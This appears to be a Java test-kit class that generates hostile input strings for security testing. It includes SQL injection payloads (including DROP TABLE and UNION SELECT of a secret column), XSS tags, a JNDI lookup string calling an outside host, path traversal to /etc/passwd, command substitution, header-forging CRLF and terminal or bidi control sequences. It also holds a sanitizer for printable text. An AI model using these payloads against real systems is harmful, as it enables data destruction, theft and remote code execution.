package org.wardline.testkit;

import java.util.List;

/// Text that is code elsewhere.
public final class HostileText {

    private HostileText() {}

    /// Fifty ways out of a string of SQL.
    public static List<String> sql() {
        List<String> ends = List.of("'", "\"", "$$", "')", "';", "\\'", "%27", "\u02bc", "*/", "`");
        List<String> acts =
                List.of(
                        " OR '1'='1",
                        "; DROP TABLE pbx.call_record; --",
                        "; SELECT pg_sleep(9); --",
                        " UNION SELECT secret FROM pbx.device --",
                        "||(SELECT version())||'");
        return ends.stream().flatMap(end -> acts.stream().map(end::concat)).toList();
    }

    /// Markup, templates, paths, commands, and what acts on terminals and screens.
    public static List<String> markup() {
        return List.of(
                "<script>alert(1)</script>",
                "<img src=x onerror=x>",
                "${jndi:ldap://x.example/a}",
                "%s%n%x",
                "{{7*7}}",
                "../../etc/passwd",
                "`id`",
                "$(id)",
                "|id",
                "\u001b[2J",
                "\u001b]0;title\u0007",
                "\u009b2J",
                "a\r\nX-Forged: 1",
                "a\nforged line",
                "a\rforged",
                "a\r\n folded",
                "a\u2028b",
                "a\u0085b",
                "\u0000",
                "\u007f",
                "\u202Etxt.exe",
                "\u2066abc\u2069",
                "a".repeat(2_000));
    }

    /// The text without controls of the C0 and C1 sets, separators of lines and paragraphs, and
    /// what changes the direction of writing (Unicode, UAX 9).
    public static String printable(String text) {
        return text.codePoints()
                .filter(c -> !Character.isISOControl(c) && c != 0x2028 && c != 0x2029)
                .filter(c -> !(c >= 0x202A && c <= 0x202E) && !(c >= 0x2066 && c <= 0x2069))
                .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append)
                .toString();
    }
}
